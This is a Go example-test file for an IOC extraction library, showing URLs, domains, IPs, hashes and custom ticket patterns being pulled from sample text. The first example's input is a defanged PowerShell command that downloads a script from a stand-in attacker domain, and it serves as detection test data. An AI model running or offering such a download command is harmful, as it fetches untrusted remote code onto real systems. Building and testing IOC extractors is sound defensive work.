package ioc_test

import (
	"fmt"

	"github.com/hunchsec/hunch/ioc"
)

func ExampleExtract() {
	text := `powershell -c "iwr hxxps://evil[.]com/a.ps1" from 192.168.1.5 md5 D41D8CD98F00B204E9800998ECF8427E`
	for _, m := range ioc.Extract(text) {
		fmt.Printf("%s %s defanged=%v within=%q flags=%v\n", m.Type, m.Value, m.Defanged, m.Within, m.IPFlags.Strings())
	}
	// Output:
	// url https://evil.com/a.ps1 defanged=true within="" flags=[]
	// domain evil.com defanged=true within="url" flags=[]
	// ipv4 192.168.1.5 defanged=false within="" flags=[private]
	// md5 d41d8cd98f00b204e9800998ecf8427e defanged=false within="" flags=[]
}

func ExampleNewExtractor() {
	e, err := ioc.NewExtractor(ioc.Options{
		Types:  []ioc.Type{ioc.Domain, "ticket"},
		Custom: []ioc.Custom{{Name: "ticket", Pattern: `ticket=(?P<ioc>INC-\d+)`}},
	})
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, m := range e.Extract("ticket=INC-4711 beacon to cdn.evil.co.uk every 60s, see 10.0.0.1") {
		fmt.Printf("%s %s registrable=%q\n", m.Type, m.Value, m.Registrable)
	}
	// Output:
	// ticket INC-4711 registrable=""
	// domain cdn.evil.co.uk registrable="evil.co.uk"
}
